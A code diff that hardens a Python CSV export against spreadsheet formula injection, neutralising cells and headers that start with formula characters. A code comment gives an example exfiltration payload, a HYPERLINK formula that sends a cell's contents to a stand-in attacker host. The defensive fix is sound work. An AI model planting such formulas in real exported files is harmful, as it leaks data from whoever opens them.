@@ -22,14 +22,27 @@ class _Echo:
         return value
 
 
+# A spreadsheet takes a cell beginning with one of these for a formula: a bio such as
+# =HYPERLINK("http://evil.example/?"&A2,"Click") would run when the file is opened.
+# OWASP, "CSV Injection": prefix such a cell with a single quote, so it shows as text.
+FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
+
+
+def neutralise(text):
+    """Return CSV cell text a spreadsheet shows as text, never evaluates as a formula."""
+    return "'" + text if text.startswith(FORMULA_PREFIXES) else text
+
+
 def cell_text(value):
-    """Return a platform value as CSV text: NULL empty, lists joined with "; ", times in ISO 8601."""
+    """Return a platform value as CSV text: NULL empty, lists joined with "; ", times in ISO 8601, formulas neutralised."""
     if value is None:
         return ""
     if isinstance(value, list):
-        return "; ".join(str(item) for item in value)
+        return neutralise("; ".join(str(item) for item in value))
     if isinstance(value, datetime):
         return value.isoformat()
+    if isinstance(value, str):
+        return neutralise(value)
     return value
 
 
@@ -47,7 +60,7 @@ def stream_results_csv(table, filename):
 
     def lines():
         writer = csv.writer(_Echo())
-        yield writer.writerow([str(c.header) for c in columns])
+        yield writer.writerow([neutralise(str(c.header)) for c in columns])
         for row in rows:
             yield writer.writerow(
                 [_problems_text(row, table.problem) if c.name == "problems" else cell_text(row[fields[c.name]]) for c in columns]
